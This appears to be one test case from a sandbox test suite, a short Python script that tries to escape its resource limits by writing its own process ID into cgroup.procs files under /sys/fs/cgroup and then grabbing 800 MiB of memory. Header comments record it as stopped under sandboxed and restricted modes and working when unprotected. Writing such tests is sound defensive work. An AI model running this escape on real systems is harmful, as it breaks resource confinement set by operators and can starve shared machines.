# attack: moves itself into another control group, out of its limits
# group: process
# sandboxed: stopped
# restricted: stopped
# unprotected: works (power)
from prepare import *

import glob


def move(path):
    with open(path, "w") as file:
        file.write(str(os.getpid()))
    moved.append(path)


def hoard():  # twice what it may
    hold = bytearray(800 << 20)
    hold[::4096] = b"x" * len(hold[::4096])
    gained("800 MiB of memory")


moved = []
finish()
for path in ("/sys/fs/cgroup/cgroup.procs", *glob.glob("/sys/fs/cgroup/*/cgroup.procs")):
    attempt(lambda: move(path))
if moved:
    attempt(hoard)
